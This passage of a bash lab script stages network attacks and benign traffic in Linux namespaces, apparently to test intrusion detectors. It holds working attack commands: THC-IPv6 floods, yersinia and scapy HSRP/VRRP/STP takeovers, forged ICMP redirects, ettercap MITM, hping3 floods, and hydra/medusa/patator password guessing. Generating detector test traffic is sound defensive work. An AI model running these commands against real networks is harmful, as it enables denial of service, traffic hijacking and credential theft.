		--dhcp-range=$NET.150,$NET.200,1h --dhcp-option=3,$NET.1 \
		--dhcp-range=$ULA::1000,$ULA::1fff,64,1h --dhcp-leasefile="$tmp/nas.leases"
	sleep 1
	inns pc timeout 5 "$py" -c "$dhcp6_solicit"
	scapy pc "$dhcp_discover"
	sleep 2
	for p in $(ip netns pids "$P-nas"); do [ "$(cat /proc/$p/comm 2>/dev/null)" = dnsmasq ] && kill "$p"; done
	start_gw_dnsmasq
}
scn_v6_dos_new_ip6() {
	spawn evil timeout 8 atk6-dos-new-ip6 eth0
	sleep 1
	for i in 1 2 3; do inns pc2 ip addr add "$ULA::a$i/64" dev eth0; sleep 2; done
}
scn_v6_flood_advertise6() { inns evil timeout 1 atk6-flood_advertise6 eth0; }
scn_v6_flood_solicitate6() { inns evil timeout 1 atk6-flood_solicitate6 eth0 "$nas6"; }
scn_v6_alive6() { v6 thc alive6 eth0; }
scn_v6_alive6_ula() { thc alive6 eth0 "$ULA::0-ff"; }
scn_v6_denial6() { inns evil timeout 3 atk6-denial6 eth0 "$nas6" 1; }
scn_v6_thcsyn6() { inns evil timeout 2 atk6-thcsyn6 eth0 "$nas6" 80; }
scn_v6_thcsyn6_randsrc() { inns evil timeout 2 atk6-thcsyn6 -r eth0 "$nas6" 80; }
scn_v6_nmap_sS() { inns evil nmap -6 -sS -Pn -n -T4 --top-ports 100 "$nas6"; }
scn_v6_nmap_sT() { inns evil nmap -6 -sT -Pn -n -T4 -p 1-100 "$nas6"; }
scn_v6_nmap_sU() { inns evil nmap -6 -sU -Pn -n -T5 --max-retries 0 -p 1-60 "$nas6"; }
quiet6=$(for i in $(seq 256 303); do printf '%s::%x ' $ULA "$i"; done) # .100-.129's addresses (nmap takes no IPv6 ranges)
scn_v6_nmap_sn() { inns evil nmap -6 -sn -n $quiet6; }
scn_v6_nmap_sn_echo() { inns evil nmap -6 -sn -n --send-ip -PE $quiet6; }
scn_v6_nmap_O() { inns evil nmap -6 -O -Pn -n -p 22,80 "$nas6"; }
scn_v6_ping_flood() { inns evil timeout 3 ping -6 -q -f "$nas6"; }

# Ordinary IPv6 life: must stay at info or below.
scn_v6_benign_life() {
	start_gw_ra
	# SLAAC and DAD of a new host (pc2 takes its address from the gateway's prefix).
	inns pc2 sysctl -qw net.ipv6.conf.eth0.use_tempaddr=2
	inns pc2 ip link set eth0 down; inns pc2 ip link set eth0 up
	inns pc2 ip addr add "$ULA::11/64" dev eth0 nodad 2>/dev/null || true
	sleep 3
	inns pc rdisc6 -1 eth0 || true
	inns pc ndisc6 "$nas6" eth0 || true
	neigh_churn 3
	spawn pc ping -6 -q -c 10 -i 0.5 "$nas6"
	for i in $(seq 1 10); do inns pc curl -s -o /dev/null "http://[$nas6]/" || true; done
	# A temporary address (privacy extensions) replaced by a new one, as RFC 8981 hosts do.
	inns pc ip addr add "$ULA::1234:5678:9abc:1/64" dev eth0
	sleep 2
	inns pc curl -s -o /dev/null --interface "$ULA::1234:5678:9abc:1" "http://[$nas6]/" || true
	inns pc ip addr del "$ULA::1234:5678:9abc:1/64" dev eth0
	inns pc ip addr add "$ULA::4321:8765:cba9:2/64" dev eth0
	sleep 2
	inns pc curl -s -o /dev/null --interface "$ULA::4321:8765:cba9:2" "http://[$nas6]/" || true
	# mDNS over IPv6: the NAS announces its own name and service.
	scapy nas 'for i in range(3):
    sendp(Ether(src=mac, dst="33:33:00:00:00:fb")/IPv6(src="fe80::211:32ff:fe00:30", dst="ff02::fb", hlim=255)/UDP(sport=5353, dport=5353)/
          DNS(id=0, qr=1, aa=1, an=DNSRR(rrname="nas.local", type="AAAA", rdata="'$nas6'", ttl=120)/
              DNSRR(rrname="_smb._tcp.local", type="PTR", rdata="nas._smb._tcp.local", ttl=4500)), iface="eth0")
    time.sleep(1)'
	sleep 3 # periodic advertisements
	pkill_gw_dnsmasq
	start_gw_dnsmasq
}
scn_v6_benign_redirect() {
	# An internal router that sends no RAs: PC2 routes fd88:99::/64 (its
	# loopback holds fd88:99::1); the gateway knows the route and forwards the
	# PC's pings there, and its kernel redirects the PC to PC2 (RFC 4861 8).
	inns gw sysctl -qw net.ipv6.conf.all.forwarding=1
	inns pc2 sysctl -qw net.ipv6.conf.all.forwarding=1
	inns pc2 ip addr add fd88:99::1/64 dev lo
	inns gw ip -6 route add fd88:99::/64 via fe80::f21f:afff:fe00:11 dev eth0 # a redirect names a link-local first hop (RFC 4861 8)
	inns pc ip -6 route add default via "$ULA::1" 2>/dev/null || true
	inns pc ping -6 -c 4 -i 0.5 fd88:99::1 || true
	inns gw ip -6 route del fd88:99::/64 via fe80::f21f:afff:fe00:11 dev eth0
	inns pc2 ip addr del fd88:99::1/64 dev lo
	inns pc ip -6 route del default via "$ULA::1" 2>/dev/null || true
	inns gw sysctl -qw net.ipv6.conf.all.forwarding=0
	inns pc2 sysctl -qw net.ipv6.conf.all.forwarding=0
}
scn_v6_benign_two_routers() {
	# Two routers on purpose: the gateway and pc2 (a second uplink) both advertise.
	start_gw_ra
	spawn pc2 dnsmasq -k --no-resolv --no-hosts --interface=eth0 --bind-interfaces --port=0 --enable-ra \
		--ra-param=eth0,4,1800 --dhcp-range=$ULA::,ra-only,64,1h --dhcp-leasefile="$tmp/pc26.leases"
	sleep 3
	inns pc rdisc6 -m eth0 || true # the PC asks: both routers answer
	sleep 7
	for p in $(ip netns pids "$P-pc2"); do [ "$(cat /proc/$p/comm 2>/dev/null)" = dnsmasq ] && kill "$p"; done
	pkill_gw_dnsmasq
	start_gw_dnsmasq
}


scn_benign_ipv6_busy_server() {
	# A busy server: 40 IPv6 clients (the 30 quiet hosts and 10 more) reach
	# the NAS within a minute, half by TCP, half by ping. The clients know the
	# NAS already; the NAS's neighbour cache starts empty, so it solicits
	# each client (multicast) to answer it, then re-checks them (unicast).
	local i c=() w=()
	for i in $(seq 130 139); do host "c$i" "$(printf '00:50:56:00:02:%02x' "$i")" "$i"; done
	for i in $(seq 100 129); do c+=("h$i"); done
	for i in $(seq 130 139); do c+=("c$i"); done
	for i in "${c[@]}"; do inns "$i" ping -6 -q -c 1 -W 2 "$nas6" >/dev/null 2>&1 & w+=($!); done
	wait "${w[@]}"
	inns nas ip -6 neigh flush dev eth0
	sleep 1
	w=()
	for i in "${!c[@]}"; do
		if ((i % 2)); then
			inns "${c[$i]}" ping -6 -q -c 2 -i 0.5 "$nas6" >/dev/null 2>&1 & w+=($!)
		else
			inns "${c[$i]}" curl -s -m 3 -o /dev/null "http://[$nas6]/" & w+=($!)
		fi
		sleep 0.4
	done
	wait "${w[@]}"
	sleep 6 # the NAS's unicast re-checks (RFC 4861 7.3.3, DELAY then PROBE)
	for i in $(seq 130 139); do ip netns del "$P-c$i"; done
}

# Layer-2 attacks (yersinia) beside a real switch: sw2 is a Linux bridge with
# the kernel's spanning tree on, its port toward the LAN sending a config BPDU
# every 2 s (IEEE 802.1D hello time), as a switch's port does.
start_stp_switch() {
	ip netns add "$P-sw2"
	inns sw2 sysctl -qw net.ipv6.conf.all.disable_ipv6=1 net.ipv6.conf.default.disable_ipv6=1 # a switch port speaks no IP
	ip -n "$SW" link add psw2 type veth peer name eth0 netns "$P-sw2" address 00:19:06:ea:b8:85
	ip -n "$SW" link set psw2 master br0 up
	inns sw2 ip link add br1 address 00:19:06:ea:b8:80 type bridge stp_state 1 priority 32768 hello_time 200 forward_delay 400
	inns sw2 ip link set eth0 master br1 up
	inns sw2 ip link set br1 up
	sleep 5
}
stop_stp_switch() { ip netns del "$P-sw2"; }
# HSRP hellos of the real gateway (active, priority 110, group 1, virtual IP .254): no HSRP daemon in Debian, so scapy speaks for it.
hsrp_hello='for i in range(int(sys.argv[1])):
    sendp(Ether(src=mac, dst="01:00:5e:00:00:02")/IP(src="'$NET.1'", dst="224.0.0.2", ttl=1)/UDP(sport=1985, dport=1985)/
          HSRP(opcode=0, state=16, hellotime=3, holdtime=10, priority=110, group=1, virtualIP="'$NET.254'"), iface="eth0")
    time.sleep(3)'
scn_yersinia_stp_root() { start_stp_switch; ys 8 stp -attack 4; stop_stp_switch; }
scn_yersinia_stp_conf_flood() { start_stp_switch; ys 2 stp -attack 2; stop_stp_switch; }
scn_yersinia_stp_tcn_flood() { start_stp_switch; ys 2 stp -attack 3; stop_stp_switch; }
scn_yersinia_cdp_flood() { ys 2 cdp -attack 1; }
scn_yersinia_dtp_trunk() { ys 8 dtp -attack 1; }
scn_yersinia_hsrp_coup() {
	# yersinia's "becoming ACTIVE router" needs a parameter its command line
	# does not take: its raw attack sends the same coup and active hellos.
	scapy gw "$hsrp_hello" 5 & local g=$!
	sleep 7 # scapy's start (seconds under load), then two hellos
	local i
	for i in 1 0 0; do
		ys 3 hsrp -attack 0 -opcode 0$i -state 10 -priority FF -group 01 \
			-ipsource $NET.66 -ipvirtual $NET.254 || true
		sleep 1
	done
	wait "$g"
}
# HSRP version 2 (224.0.0.102, and for IPv6 UDP 2029 to ff02::66; Cisco's
# group state TLV, then a text authentication TLV): yersinia 0.8.2 speaks
# version 1 only and Debian has no HSRP daemon, so scapy speaks for both
# routers. scapyf NAME HOST BODY ARGS: scapy from its own file (two run at once).
scapyf() { local f=$1 h=$2 body=$3; shift 3; printf 'import sys, time, struct\nfrom scapy.all import *\nconf.verb = 0\nmac = get_if_hwaddr("eth0")\n%s\n' "$body" >"$tmp/$f.py"; inns "$h" "$py" "$tmp/$f.py" "$@"; }
# hsrp2_hellos N EVERY OP STATE PRIO GROUP VIP [6]: N HSRPv2 messages EVERY
# seconds apart, the first with OP, the rest hellos; hello 3 s, hold 10 s.
hsrp2_hellos='def hsrp2(op, state, prio, grp, vip, v6):
    vb = inet_pton(socket.AF_INET6, vip) if v6 else inet_pton(socket.AF_INET, vip) + bytes(12)
    b = struct.pack("!BBBBBBH6sIII", 1, 40, 2, op, state, 6 if v6 else 4, grp, mac2str(mac), prio, 3000, 10000) + vb + struct.pack("!BB8s", 3, 8, b"cisco")
    if v6:
        ll = [a[0] for a in in6_getifaddr() if a[2] == "eth0" and a[0].startswith("fe80")][0]
        return Ether(src=mac, dst="33:33:00:00:00:66")/IPv6(src=ll, dst="ff02::66", hlim=255)/UDP(sport=2029, dport=2029)/Raw(b)
    return Ether(src=mac, dst="01:00:5e:00:00:66")/IP(src=get_if_addr("eth0"), dst="224.0.0.102", ttl=1)/UDP(sport=1985, dport=1985)/Raw(b)
n, every, op, state, prio, grp, vip = int(sys.argv[1]), float(sys.argv[2]), int(sys.argv[3]), int(sys.argv[4]), int(sys.argv[5]), int(sys.argv[6]), sys.argv[7]
for i in range(n):
    sendp(hsrp2(op if i == 0 else 0, state, prio, grp, vip, len(sys.argv) > 8), iface="eth0")
    time.sleep(every)'
# The gateway active in HSRPv2 group 1001 (virtual .254) at 110; the attacker's coup and hellos at 255.
scn_hsrp2_coup_scapy() {
	scapyf gw2 gw "$hsrp2_hellos" 6 3 0 6 110 1001 $NET.254 & local g=$!
	sleep 8
	scapyf ev2 evil "$hsrp2_hellos" 3 3 1 6 255 1001 $NET.254
	wait "$g"
}
# The same over IPv6: group 2, virtual fe80::5:73ff:fea0:2.
scn_hsrp6_coup_scapy() {
	scapyf gw6 gw "$hsrp2_hellos" 6 3 0 6 110 2 fe80::5:73ff:fea0:2 6 & local g=$!
	sleep 8
	scapyf ev6 evil "$hsrp2_hellos" 3 3 1 6 255 2 fe80::5:73ff:fea0:2 6
	wait "$g"
}
# VRRPv3 (RFC 5798) with keepalived, over IPv4 (VRID 8, virtual .254) and
# IPv6 (VRID 7, virtual fe80::7 and fd88:8::fe), advertising every second.
# keepalived_up HOST PRIO: start it on HOST (the gateway 110, pc2 100).
keepalived_up() {
	local h=$1 prio=$2
	cat >"$tmp/ka-$h.conf" <<EOF
global_defs {
	vrrp_version 3
}
vrrp_instance v4 {
	interface eth0
	state BACKUP
	virtual_router_id 8
	priority $prio
	advert_int 1
	virtual_ipaddress {
		$NET.254/24
	}
}
vrrp_instance v6 {
	interface eth0
	state BACKUP
	virtual_router_id 7
	priority $prio
	advert_int 1
	native_ipv6
	virtual_ipaddress {
		fe80::7/64
		$ULA::fe/64
	}
}
EOF
	spawn "$h" keepalived -n -l -P -f "$tmp/ka-$h.conf" -p "$tmp/ka-$h.pid" -r "$tmp/ka-$h-vrrp.pid" -c "$tmp/ka-$h-chk.pid"
	eval "ka_$h=${pids[-1]}"
}
keepalived_down() { local v=ka_$1; kill "${!v}" 2>/dev/null; wait "${!v}" 2>/dev/null || true; }
# VRRPv3 advertisements over IPv6 for VRID 7 at priority 254, one a second
# (scapy: a keepalived at 254 would be a router the group hears as master).
vrrp6_adverts='ll = [a[0] for a in in6_getifaddr() if a[2] == "eth0" and a[0].startswith("fe80")][0]
body = bytes([0x31, 7, 254, 1, 0, 100, 0, 0]) + inet_pton(socket.AF_INET6, "fe80::7")
for i in range(int(sys.argv[1])):
    p = Ether(src=mac, dst="33:33:00:00:00:12")/IPv6(src=ll, dst="ff02::12", hlim=255, nh=112)/Raw(body)
    ck = in6_chksum(112, p[Raw], body)
    p[Raw].load = body[:6] + struct.pack("!H", ck) + body[8:]
    sendp(p, iface="eth0")
    time.sleep(1)'
scn_vrrp6_coup_keepalived() {
	command -v keepalived >/dev/null || { echo "no keepalived" >&2; return 1; }
	keepalived_up gw 110
	sleep 7 # a backup waits three intervals and more before it becomes master
	scapyf v6 evil "$vrrp6_adverts" 6
	keepalived_down gw
}
# Both routers speak VRRPv3 (IPv4 and IPv6): the gateway is master; it stops
# (priority 0, RFC 5798 6.4.3), pc2 takes over; it comes back and preempts.
scn_benign_vrrp_failover_keepalived() {
	command -v keepalived >/dev/null || { echo "no keepalived" >&2; return 1; }
	keepalived_up gw 110
	sleep 5
	keepalived_up pc2 100
	sleep 5
	keepalived_down gw
	sleep 5
	keepalived_up gw 110
	sleep 8
	keepalived_down pc2
	keepalived_down gw
}
# yersinia claims the active role of HSRP group 1 first (a coup, then hellos
# about every 3 s, priority 255, from a forged MAC), and the real gateway's
# hellos start after: both routers go on claiming it.
scn_yersinia_hsrp_coup_first() {
	local i
	(for i in 1 0 0 0 0 0; do
		ys 2 hsrp -attack 0 -opcode 0$i -state 10 -priority FF -group 01 -ipsource $NET.66 -ipvirtual $NET.254 || true
		sleep 1
	done) & local y=$!
	sleep 5
	scapy gw "$hsrp_hello" 5
	wait "$y"
}
# yersinia says hello in group 1 as a standby router (state 8, priority
# 100, one source MAC) for 20 s beside the real gateway, then coups at 255
# and says hello as the active router while the gateway goes on.
scn_yersinia_hsrp_standby_first() {
	scapy gw "$hsrp_hello" 20 & local g=$! # a minute: yersinia takes seconds to start each time
	sleep 4
	local i
	for i in 8 8 8 8 8; do
		ys 2 hsrp -attack 0 -source 00:0c:29:6b:2e:5d -opcode 00 -state 0$i -priority 64 -group 01 -ipsource $NET.66 -ipvirtual $NET.254 || true
		sleep 1
	done
	for i in 1 0 0 0; do
		ys 2 hsrp -attack 0 -source 00:0c:29:6b:2e:5d -opcode 0$i -state 10 -priority FF -group 01 -ipsource $NET.66 -ipvirtual $NET.254 || true
		sleep 1
	done
	wait "$g"
}
# One frame each: yersinia's "sending ... packet" attacks beside the STP switch.
scn_yersinia_stp_one_conf() { start_stp_switch; ys 2 stp -attack 0 || true; sleep 3; stop_stp_switch; }
scn_yersinia_stp_one_tcn() { start_stp_switch; ys 2 stp -attack 1 || true; sleep 3; stop_stp_switch; }
scn_yersinia_dtp_one() { ys 2 dtp -attack 0 || true; }
scn_yersinia_cdp_one() { ys 2 cdp -attack 0 || true; }
# The attacker's box announces itself by CDP as an IP phone (capabilities
# host and phone, as a Cisco phone does; scapy), then yersinia sends one
# configuration BPDU from the same MAC.
scn_yersinia_stp_from_phone() {
	start_stp_switch
	scapy evil 'from scapy.contrib.cdp import *
for i in range(2):
    sendp(Dot3(src=mac, dst="01:00:0c:cc:cc:cc")/LLC(dsap=0xaa, ssap=0xaa, ctrl=3)/SNAP(OUI=0x0c, code=0x2000)/CDPv2_HDR(vers=2, ttl=180, msg=[CDPMsgDeviceID(val=b"SEPB827EB000066"), CDPMsgCapabilities(cap=0x90), CDPMsgPlatform(val=b"Cisco IP Phone 7945")]), iface="eth0")
    time.sleep(2)'
	ys 2 stp -attack 0 -source b8:27:eb:00:00:66 || true
	sleep 3
	stop_stp_switch
}
scn_benign_stp_switch() {
	# A switch's BPDUs, a topology change when a second port comes up, the gateway's HSRP hellos.
	start_stp_switch
	scapy gw "$hsrp_hello" 3 & local g=$!
	inns sw2 ip link add d0 type veth peer name d1
	inns sw2 ip link set d0 master br1 up
	inns sw2 ip link set d1 up
	sleep 8
	wait "$g"
	stop_stp_switch
}

# Tools the detectors were never tuned on (session 11): nping, mausezahn,
# masscan and zmap (above), medusa, ncrack, patator, macof, ettercap's other
# MITM modes, and guessing that starts during a flood.
scn_nping_tcp() { inns evil nping -q --tcp -p 1-200 --rate 200 -c 1 "$nas" || true; }
scn_nping_udp() { inns evil nping -q --udp -p 1-100 --rate 100 -c 1 "$nas" || true; }
scn_nping_icmp_sweep() { inns evil nping -q --icmp --rate 50 -c 1 "$NET.100-129" || true; }
scn_nping_arp_sweep() { inns evil nping -q --arp --rate 50 -c 1 "$NET.100-129" || true; }
scn_nping_syn_flood() { inns evil nping -q --tcp -p 80 --flags syn --rate 3000 -c 6000 "$nas" || true; }
scn_mz_arp_reply_gw() { inns evil mausezahn eth0 -t arp "reply, senderip=$NET.1, targetmac=3c:52:82:00:00:10, targetip=$NET.10" -c 8 -d 1s; }
scn_macof() { inns evil macof -i eth0 -n 3000; }
scn_medusa_ssh() { start_services; inns evil timeout 20 medusa -h "$nas" -u admin -P "$tmp/pw300" -M ssh -t 4 || true; stop_services; }
scn_medusa_ftp() { start_services; inns evil timeout 20 medusa -h "$nas" -u admin -P "$tmp/pw300" -M ftp -t 4 || true; stop_services; }
scn_medusa_http() { start_services; inns evil timeout 20 medusa -h "$nas" -n 8000 -u admin -P "$tmp/pw300" -M http -t 4 || true; stop_services; }
scn_ncrack_ssh() { start_services; inns evil timeout 20 ncrack -p 22 --user admin -P "$tmp/pw300" "$nas" || true; stop_services; }
scn_ncrack_ftp() { start_services; inns evil timeout 20 ncrack -p 21 --user admin -P "$tmp/pw300" "$nas" || true; stop_services; }
scn_patator_ssh() { start_services; (cd "$tmp" && inns evil timeout 20 patator ssh_login host="$nas" user=admin password=FILE0 0="$tmp/pw300" -t 4 -x ignore:mesg='Authentication failed.') || true; stop_services; }
scn_patator_ftp() { start_services; (cd "$tmp" && inns evil timeout 20 patator ftp_login host="$nas" user=admin password=FILE0 0="$tmp/pw300" -t 4 -x ignore:code=530) || true; stop_services; }
scn_patator_http() { start_services; (cd "$tmp" && inns evil timeout 20 patator http_fuzz url="http://$nas:8000/" user_pass=admin:FILE0 0="$tmp/pw300" -t 4 -x ignore:code=401) || true; stop_services; }
scn_hydra_ssh_t1() { brute -t 1 "ssh://$nas"; }
scn_hydra_ssh_t1_W() { brute -t 1 -W 1 "ssh://$nas"; }
# ettercap's ICMP redirect answers the victim's packets through the gateway: the PC pings an address beyond it.
scn_ettercap_icmp() {
	spawn pc ping -q -c 40 -i 0.3 192.0.2.1
	spawn pc bash -c 'for i in $(seq 20); do curl -s -m 1 -o /dev/null http://192.0.2.1/; done'
	ettercap_run 12 -M icmp:00:1a:a1:00:00:01/$NET.1 "/$NET.10//" "/$NET.30//"
}
scn_ettercap_port() { ettercap_run 12 -M port "/$NET.10//" "/$NET.1//"; }
# SSH guessing (medusa, 100 passwords) that starts during a SYN flood toward another port of the same server.
scn_flood_then_brute_ssh() {
	start_services
	head -100 "$tmp/pw300" >"$tmp/pw100"
	inns evil timeout 14 hping3 -q -S -p 80 --rand-source -i u2000 "$nas" >/dev/null 2>&1 & local f=$!
	sleep 3
	inns evil timeout 10 medusa -h "$nas" -u admin -P "$tmp/pw100" -M ssh -t 4 || true
	wait "$f" || true
	stop_services
}
scn_flood_then_brute() {
	start_services
	inns evil timeout 12 hping3 -q -S -p 80 --rand-source -i u500 "$nas" >/dev/null 2>&1 & local f=$!
	sleep 2
	(cd "$tmp" && inns evil timeout 8 hydra -l admin -P "$tmp/pw300" -I ftp://$nas) || true
	wait "$f" || true
	stop_services
}

# Session 12 (issue 14). One-way UDP below 5,000 a second, for 10 s:
# mausezahn -d 200 (µs) gives the loaded lab 1,000 to 1,300 a second;
# nping --udp at 1,000 a second asked (its default source port, 53; the
# loaded lab managed 250).
scn_mz_udp_10s() { inns evil timeout 10 mausezahn eth0 -B "$nas" -t udp "sp=40000,dp=5004" -c 0 -d 200 || true; }
scn_nping_udp_1k() { inns evil nping -q --udp -p 5004 --rate 1000 -c 10000 "$nas" || true; }
# IPv4 ICMP redirects (RFC 792) to the PC with hping3: "for 192.0.2.1 (a host
# redirect, code 1) go through evil", forged under the gateway's address,
# then the same sent under evil's own address. Each carries the PC's
# datagram to 192.0.2.1 (its header and first 8 bytes) as a router's does.
redir4() { inns evil hping3 -q -1 -C 5 -K 1 --icmp-gw "$NET.66" --icmp-ipsrc "$NET.10" --icmp-ipdst 192.0.2.1 --icmp-ipproto 1 -c 5 -i 1 "$@" "$NET.10" || true; }
scn_redirect4_forged_hping3() { redir4 -a "$NET.1"; }
scn_redirect4_own_hping3() { redir4; }
# The gateway's own redirects: it routes 198.51.100.0/24 via PC2, forwards
# the PC's pings there and its kernel redirects the PC to PC2 (RFC 1812
# 5.2.7.2); nothing above info.
scn_benign_redirect4_gateway() {
	inns gw sysctl -qw net.ipv4.ip_forward=1 net.ipv4.conf.all.send_redirects=1 net.ipv4.conf.eth0.send_redirects=1
	inns pc2 sysctl -qw net.ipv4.ip_forward=1
	inns pc2 ip addr add 198.51.100.1/24 dev lo
	inns gw ip route add 198.51.100.0/24 via "$NET.11"
	inns pc ping -c 6 -i 0.5 198.51.100.1 || true
	inns gw ip route del 198.51.100.0/24 via "$NET.11"
	inns pc2 ip addr del 198.51.100.1/24 dev lo
	inns pc ip route flush cache 2>/dev/null || true
	inns gw sysctl -qw net.ipv4.ip_forward=0
	inns pc2 sysctl -qw net.ipv4.ip_forward=0
}

# Session 16 (issue 14). Slow SSH password guessing: hydra with one task,
# three seconds between connections (-W 3), for three minutes, and hydra's
# four tasks at normal speed for a minute; an admin's automation beside
# them: key logins running a check command, 16 in about two minutes (a
# monitoring check or an Ansible-like loop without connection sharing).
scn_hydra_ssh_slow() { start_services; (cd "$tmp" && inns evil timeout 180 hydra -l admin -P "$tmp/pw300" -I -t 1 -W 3 "ssh://$nas") || true; stop_services; }
scn_hydra_ssh_t4_60s() { start_services; (cd "$tmp" && inns evil timeout 60 hydra -l admin -P "$tmp/pw300" -I -t 4 "ssh://$nas") || true; stop_services; }
scn_benign_ssh_automation() {
	start_services
	local i o="-o StrictHostKeyChecking=no -o UserKnownHostsFile=/dev/null -o BatchMode=yes -i $tmp/pc_key"
	for i in $(seq 1 16); do
		inns pc ssh $o "root@$nas" 'uptime; df -P /; cat /proc/loadavg; free' >/dev/null 2>&1 || true
		sleep $((4 + i % 5))
	done
	stop_services
}
# Floods with forged sources and an ICMP echo flood at full speed (hping3 --flood, 1 s).
scn_hping_udp_randsrc_flood() { inns evil timeout 1 hping3 -q -2 -p 53 --rand-source --flood "$nas" || true; }
scn_hping_icmp_flood() { inns evil timeout 1 hping3 -q --icmp --flood "$nas" || true; }
# SNMP community guessing against net-snmp's snmpd on the NAS (community
# "n0tpub1ic", which no list holds): hydra's snmp module (v1, 310 words,
# four tasks, a minute: it waits for answers a wrong community never gets),
# and a net-snmp loop (snmpget -v2c, one try each, 100 communities).
start_nas_snmpd() {
	printf 'agentAddress udp:161\nrocommunity n0tpub1ic\n' >"$tmp/snmpd-nas.conf"
	mkdir -p "$tmp/snmp-nas"
	spawn nas env SNMP_PERSISTENT_DIR="$tmp/snmp-nas" snmpd -f -Lo -C -c "$tmp/snmpd-nas.conf" -p "$tmp/snmp-nas/pid"
	sleep 1
}
stop_nas_snmpd() { local p; for p in $(ip netns pids "$P-nas"); do grep -qa snmpd /proc/$p/cmdline 2>/dev/null && kill "$p"; done; }
scn_hydra_snmp() { start_nas_snmpd; (cd "$tmp" && inns evil timeout 60 hydra -P "$tmp/pw300" -t 4 "snmp://$nas") || true; stop_nas_snmpd; }
scn_snmpget_communities() {
	start_nas_snmpd
	local c; for c in $(head -100 "$tmp/pw300"); do inns evil snmpget -v2c -c "$c" -r 0 -t 0.3 "$nas" 1.3.6.1.2.1.1.1.0 >/dev/null 2>&1 || true; done
	stop_nas_snmpd
}
# hydra's smb module (SMB1 and NTLM: Debian's hydra has no smb2 without
# libsmbclient) against Samba's smbd with SMB1 allowed, root and 310
# passwords, one task (the module's own advice), 30 s.
scn_hydra_smb() {
	start_smbd
	local p; for p in $(ip netns pids "$P-nas"); do grep -qa smbd /proc/$p/cmdline 2>/dev/null && kill "$p"; done
	sleep 1
	sed -i 's/^server min protocol = SMB2$/server min protocol = NT1/' "$tmp/smb.conf"
	spawn nas smbd -F -s "$tmp/smb.conf"
	local i; for i in $(seq 50); do inns nas ss -Hltn '( sport = :445 )' | grep -q . && break; sleep 0.2; done
	(cd "$tmp" && inns evil timeout 30 hydra -l root -P "$tmp/pw300" -I -t 1 "smb://$nas") || true
	for p in $(ip netns pids "$P-nas"); do grep -qa smbd /proc/$p/cmdline 2>/dev/null && kill "$p"; done
}
# hydra against telnet with the long list (310 passwords, four tasks, 20 s), login.py's "Login incorrect".
scn_hydra_telnet_310() { spawn nas "$py" "$tmp/login.py"; sleep 1; (cd "$tmp" && inns evil timeout 20 hydra -l admin -P "$tmp/pw300" -I -t 4 "telnet://$nas") || true; kill_nas_login; }

# Session 17 (issue 14: "the detectors also hold on real captures that are
# not in the corpus"): an ordinary day's loud shapes not staged before.
#
# A DHCP boot storm after a power cut: 60 clients, each its own namespace
# and MAC (OUIs of PC, phone and printer makers), each a full
# DISCOVER/OFFER/REQUEST/ACK with its own MAC as frame source and chaddr
# (scapy; Debian here has no dhclient), retrying as RFC 2131 4.1 says, all
# asking the gateway's dnsmasq (its pool widened to .130-.250 for them)
# within three seconds; then each takes its address and pings the gateway,
# as a booted PC does.
cat >"$tmp/dhcpc.py" <<'EOF'
import os, random, select, subprocess, sys, time
from scapy.all import *
conf.verb = 0
gate, ready = sys.argv[1], sys.argv[2]
mac = get_if_hwaddr("eth0")
h = mac.replace(":", "") # only this client's answers (BOOTP chaddr, RFC 2131 2: UDP bytes 36-41): 60 clients no longer dissect each other's broadcast answers in scapy
s = conf.L2socket(iface="eth0", filter="udp and dst port 68 and udp[36:4] = 0x%s and udp[40:2] = 0x%s" % (h[:8], h[8:]))
open(ready, "w").close()
while not os.path.exists(gate): time.sleep(0.05)
time.sleep(random.uniform(0, 3)) # the power comes back: every client boots within seconds
xid = random.getrandbits(32)
def ask(opts, want):
    for wait in (4, 8, 16, 32, 64): # RFC 2131 4.1: retransmit, doubling the delay up to 64 s (dnsmasq pings an address before it offers it: 60 clients' first OFFER came 17 s after their first DISCOVER, later on a loaded machine, and a client that gave up at 28 s left its lease unasked)
        s.send(Ether(src=mac, dst="ff:ff:ff:ff:ff:ff")/IP(src="0.0.0.0", dst="255.255.255.255")/UDP(sport=68, dport=67)/
               BOOTP(chaddr=mac2str(mac), xid=xid, flags=0x8000)/DHCP(options=[("message-type", opts[0])] + opts[1:] + [("param_req_list", [1, 3, 6, 15]), "end"]))
        t0 = time.time()
        while time.time() - t0 < wait:
            if not select.select([s], [], [], 0.2)[0]: continue
            p = s.recv()
            if p is None or not p.haslayer(DHCP) or p[BOOTP].xid != xid: continue
            t = dict(o for o in p[DHCP].options if isinstance(o, tuple))
            if t.get("message-type") in (want, 6): return p, t # 6: a NAK
    sys.exit("no answer")
for attempt in range(4): # a NAK sends the client back to DISCOVER (RFC 2131 3.1)
    p, t = ask(["discover"], 2)
    addr, server = p[BOOTP].yiaddr, t["server_id"]
    p, t = ask(["request", ("requested_addr", addr), ("server_id", server)], 5)
    if t.get("message-type") == 5: break
    xid = random.getrandbits(32)
else:
    sys.exit("no lease")
subprocess.run(["ip", "addr", "add", addr + "/24", "dev", "eth0"])
subprocess.run(["ping", "-q", "-c", "2", "-i", "0.5", server], stdout=subprocess.DEVNULL)
EOF
scn_benign_dhcp_boot_storm() {
	local i ns ouis=(3c:52:82 f8:bc:12 54:ee:75 00:1b:63 a4:83:e7 30:05:5c b4:2e:99 dc:a6:32) w=()
	pkill_gw_dnsmasq
	spawn gw dnsmasq -k --no-resolv --no-hosts --interface=eth0 --bind-interfaces --port=0 \
		--dhcp-range=$NET.130,$NET.250,1h --dhcp-option=3,$NET.1 --dhcp-leasefile="$tmp/storm.leases"
	for i in $(seq 1 60); do
		ns=$P-c$i
		ip netns add "$ns"
		ip -n "$SW" link add "c$i" type veth peer name eth0 netns "$ns" address "${ouis[i % 8]}:00:03:$(printf %02x "$i")"
		ip -n "$ns" link set lo up
		ip -n "$ns" link set eth0 up
		ip -n "$SW" link set "c$i" master br0 up
		ip netns exec "$ns" "$py" "$tmp/dhcpc.py" "$tmp/boot-go" "$tmp/boot-ready$i" >/dev/null 2>&1 & w+=($!)
	done
	open_gate boot 60 "${w[@]}"
	wait "${w[@]}" || true
	for i in $(seq 1 60); do ip netns del "$P-c$i"; done
	pkill_gw_dnsmasq
	start_gw_dnsmasq
}
# An admin's fan-out (Ansible without connection sharing): OpenSSH's sshd on
# 25 quiet hosts, key login, and PC2 running one command on each in turn.
scn_benign_ssh_fanout() {
	sed '/^ListenAddress/d' "$tmp/sshd_config" >"$tmp/sshd_any"
	local h
	for h in $(seq -f 'h%g' 100 124); do spawn "$h" /usr/sbin/sshd -D -f "$tmp/sshd_any" -E "$tmp/sshd-$h.log"; done
	sleep 2
	for h in $(seq 100 124); do
